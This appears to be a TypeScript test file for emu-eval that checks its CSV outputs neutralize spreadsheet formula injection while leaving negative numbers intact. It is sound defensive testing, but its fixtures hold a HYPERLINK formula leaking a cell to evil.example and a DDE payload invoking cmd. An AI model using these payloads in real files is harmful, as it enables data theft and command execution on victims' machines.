// CSV injection: every CSV emu-eval writes (report --format csv, leaderboard long and wide, the nightly
// history's leaderboard.csv) neutralizes cells a spreadsheet would run as formulas, and leaves numbers be.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { appendHistoryCsv, HISTORY_CSV_FILE } from '../../artifact/history/history-csv.js';
import { NIGHT_RECORD_VERSION } from '../../artifact/history/night-record.js';
import { neutralizeCsvCell } from '../../core/csv-format.js';
import { runCli, temporaryFolder } from '../helpers/cli.js';
import { editRun, replayRun } from './helpers.js';

const LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"label")';
const SERVED = '@SUM(1+1)*cmd|\' /C calc\'!A0';

const rows = (file: string) => parse(readFileSync(file, 'utf8'), { columns: true }) as Array<Record<string, string>>;

test('a cell is neutralized when it would start a formula, and a number is not', () => {
  for (const cell of ['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\tx', '\rx', '--7', '-0.7e']) assert.equal(neutralizeCsvCell(cell), `'${cell}`);
  for (const cell of ['-0.7', '+3', '-5.25', '1e-3', '-2E+4', '.5', '42', '', '-', 'Emu2 (ours)', 'a=b', "'quoted"]) assert.equal(neutralizeCsvCell(cell), cell);
});

test('report and leaderboard CSVs neutralize a hostile label and served model name, and keep negative numbers', async () => {
  const out = temporaryFolder();
  const run = await replayRun(out, 'vqav2');
  // What an OpenAI-compatible server reports as its model's name ends up as the run's model id.
  editRun(run, { run: (record) => void (record.model.id = SERVED) });
  const reportCsv = path.join(out, 'report.csv');
  assert.equal((await runCli(['report', run, '--label', LABEL, '--params', '7B', '--out', reportCsv, '--quiet'])).code, 0);
  const reportOurs = rows(reportCsv).filter((row) => row.kind === 'ours');
  assert.ok(reportOurs.length > 0);
  for (const row of reportOurs) assert.equal(row.model, `'${LABEL} (ours)`);

  const long = path.join(out, 'long.csv');
  const wide = path.join(out, 'wide.csv');
  assert.equal((await runCli(['leaderboard', run, '--with-baselines', '--out', long, '--quiet'])).code, 0);
  assert.equal((await runCli(['leaderboard', run, '--with-baselines', '--wide', '--out', wide, '--quiet'])).code, 0);
  for (const file of [long, wide]) {
    const parsed = rows(file);
    const ours = parsed.filter((row) => row.kind === 'ours');
    assert.ok(ours.length > 0 && ours.every((row) => row.model === `'${SERVED} (ours)`), file);
    for (const row of parsed) for (const cell of Object.values(row)) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-(\d|$)/.test(cell), `${file}: ${cell}`);
  }
  // Published models below the size trend have negative size-adjusted scores: still numbers.
  const negative = rows(long).map((row) => row.size_adjusted!).filter((cell) => cell.startsWith('-'));
  assert.ok(negative.length > 0 && negative.every((cell) => Number.isFinite(Number(cell))), 'negative numbers stay numbers');
});

test('the nightly history leaderboard.csv neutralizes label and model, keeps negative deltas', () => {
  const folder = temporaryFolder('emu-eval-history-');
  appendHistoryCsv(folder, {
    schemaVersion: NIGHT_RECORD_VERSION,
    id: '2024-05-02-bbbbbb',
    date: '2024-05-02',
    label: LABEL,
    model: SERVED,
    suite: { name: 'nightly', hash: 'h' },
    status: 'finished',
    pid: 1,
    startedAt: '2024-05-02T23:00:00.000Z',
    settings: { threshold: 1, alpha: 0.05 },
    baseline: { id: '2024-05-01-aaaaaa', date: '2024-05-01' },
    results: [{ entry: 'vqa', task: 'vqav2', shots: 0, metric: 'vqa_accuracy', split: 'val', protocol: 'emu2', score: 50, ci95: [45, 55], n: 400, trials: 1 }],
    comparisons: [{ entry: 'vqa', task: 'vqav2', shots: 0, status: 'regressed', delta: -5.25, ci95: [-7, -3.5], pValue: 0.001, test: 'mcnemar-exact', n: 400, reasons: [] }],
    regressions: 1,
  });
  const [row] = rows(path.join(folder, HISTORY_CSV_FILE));
  assert.equal(row!.label, `'${LABEL}`);
  assert.equal(row!.model, `'${SERVED}`);
  assert.deepEqual([row!.delta, row!.delta_ci95_low, row!.delta_ci95_high], ['-5.25', '-7', '-3.5']);
});
